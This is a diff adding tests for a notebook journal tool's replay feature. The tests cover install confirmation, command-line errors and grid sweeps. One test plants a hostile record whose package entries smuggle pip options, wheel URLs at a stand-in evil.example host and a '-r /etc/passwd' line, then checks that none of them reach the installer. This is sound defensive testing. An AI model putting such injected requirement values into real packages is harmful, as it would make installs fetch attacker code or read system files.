@@ -15,13 +15,16 @@ from typing import Any
 import pytest
 
 from labjournal import events as ev
+from labjournal.cli.main import main
 from labjournal.errors import LabjournalError, ReplayFailed
 from labjournal.journal.blobs import Blobs
 from labjournal.journal.rows import Environment
+from labjournal.records.export import export
 from labjournal.records.pins import Pins, pins
 from labjournal.replay import environments, installing, interpreters, kernels
 from labjournal.replay.environments import built, cache_folder
 from labjournal.replay.interpreters import Interpreter, find_interpreter
+from labjournal.replay.sweep import sweep
 from tests.builders import JournalBuilder, RunBuilder, result, stream
 from tests.replay.conftest import again
 from tests.replay.packages import Index
@@ -183,6 +186,88 @@ def test_a_run_whose_environment_was_not_recorded_is_refused(
     builder.save()
     with pytest.raises(LabjournalError, match="was not recorded"):
         again(builder.folder, environment="recorded")
+
+
+def exported(builder: JournalBuilder, path: Path) -> str:
+    with builder.open() as journal:
+        export(journal, "last", "crate", path)
+    return str(path)
+
+
+def test_a_record_is_replayed_in_its_environment_once_somebody_knows_what_will_be_installed(
+    run: RunBuilder, builder: JournalBuilder, index: Index, tmp_path: Path
+) -> None:
+    record = exported(builder, tmp_path / "record.zip")
+    asked: list[str] = []
+
+    def refuse(question: str) -> bool:
+        asked.append(question)
+        return False
+
+    with pytest.raises(LabjournalError, match="Nothing was executed"):
+        again(tmp_path / "other", record, assume_yes=False, confirm=refuse, environment="recorded")
+    assert not cache_folder().exists()
+    assert (
+        "To be installed for it from your package index, into an environment of its own: thing==1.0 and 2 more that they need."
+        in asked[0]
+    )
+
+    answer = again(tmp_path / "other", record, environment="recorded", once=True)
+    assert answer["reproduced"], answer["first_difference"]
+    assert ("recorded", 3) == (answer["environment"]["which"], answer["environment"]["pinned"])
+
+
+def test_a_hostile_record_gets_nothing_but_names_and_versions_to_the_installer(
+    story: Callable[..., RunBuilder], builder: JournalBuilder, index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    bad = {
+        "--index-url=https://evil.example": "1",
+        "evil @ https://evil.example/x.whl": "1",
+        "thing": "1.0 --extra-index-url https://evil.example",
+        "needed": "1.5",
+    }
+    beside = {name: {"source": "index", "requires": ["evil @ https://evil.example/y.whl", "-r /etc/passwd"]} for name in bad}
+    run = story().environment(
+        bad, used=tuple(bad), python=VERSION, platform=LINUX, executable="/evil/python", distributions=beside
+    )
+    run.execution("1", outputs=[result("1")])
+    given: list[str] = []
+    monkeypatch.setattr(environments, "install", lambda folder, lines, **more: given.extend([*lines, *more["constraints"]]))
+    record = exported(builder, tmp_path / "record.zip")
+    with pytest.raises(LabjournalError):  # nothing was installed, so that there is no kernel
+        again(tmp_path / "other", record, environment="recorded", once=True)
+    assert {"needed==1.5", "ipykernel"} == set(given)
+
+
+# the command line
+
+
+def test_what_cannot_be_installed_is_one_line_and_exit_status_2(
+    run: RunBuilder, builder: JournalBuilder, index: Index, capsys: pytest.CaptureFixture[str]
+) -> None:
+    builder.save()
+    (index.simple / "thing" / "index.html").write_text("")
+    assert 2 == main(["replay", "last", "--journal", str(builder.folder), "--environment", "recorded", "--json"])
+    out, err = capsys.readouterr()
+    assert ("", 1) == (out, err.count("\n"))
+    assert err.startswith("thing==1.0, which was recorded, is not to be had from your package index")
+
+
+def test_every_try_of_a_grid_is_made_in_the_recorded_environment(
+    story: Callable[..., RunBuilder], builder: JournalBuilder, index: Index
+) -> None:
+    run = story()
+    names = ("thing", "needed", "ipykernel")
+    run.environment({"thing": "1.0", "needed": "1.5", "ipykernel": "7.0"}, used=("thing",), python=VERSION, platform=LINUX,
+                    distributions={name: {"source": "index"} for name in names})  # fmt: skip
+    run.execution("factor = 1", parameters={"factor": 1}, bound=["factor"])
+    run.execution(
+        "import thing\nprint('score:', float(thing.VERSION) * factor)", used=["factor"], outputs=[stream("score: 1.0\n")]
+    )
+    builder.save()
+    answer = sweep(builder.folder, "last", grid={"factor": ["2", "3"]}, jobs=2, environment="recorded")
+    assert ["ok", "ok"] == [part["status"] for part in answer["tries"]]
+    assert 1 == len(left())
 
 
 # environments
